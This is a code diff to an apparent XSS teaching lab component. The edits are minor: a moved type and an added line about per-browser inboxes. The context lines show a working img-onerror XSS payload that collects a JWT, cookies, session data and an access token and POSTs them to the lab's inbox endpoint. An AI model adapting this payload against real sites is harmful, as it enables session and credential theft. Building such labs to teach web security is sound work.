@@ -3,6 +3,7 @@
 import Link from "next/link";
 import { useCallback, useEffect, useState } from "react";
 import { callApi } from "@/lib/client/api";
+import type { Delivery } from "./delivery";
 
 /**
  * The ready payload: an image that fails to load runs its onerror handler, which reads what page
@@ -16,8 +17,6 @@ export const PAYLOAD = `<img src="/no-such-image.png" alt="" onerror="(async () 
   await fetch('/api/lab/inbox', { method: 'POST', headers: { 'content-type': 'application/json' },
     body: JSON.stringify({ jwt, documentCookie: document.cookie, session: session.slice(0, 2000), hybridAccessToken: refreshed.access_token ?? null }) });
 })()">`;
-
-type Delivery = { at: string; jwt: string | null; documentCookie: string; session: string; hybridAccessToken: string | null };
 
 export function XssLab({ csp }: { csp: boolean }) {
   const [draft, setDraft] = useState("");
@@ -84,6 +83,7 @@ export function XssLab({ csp }: { csp: boolean }) {
               clear
             </button>
           </div>
+          <p className="text-xs text-zinc-500">Only this browser sees this inbox (it is tied to its own HttpOnly lab cookie); other visitors have theirs.</p>
           {deliveries.length === 0 ? <p className="text-sm text-zinc-500">Nothing stolen yet.</p> : null}
           {deliveries.map((d) => (
             <div key={d.at} data-testid="delivery" className="flex flex-col gap-1 border-t border-zinc-200 pt-2 text-xs dark:border-zinc-800">
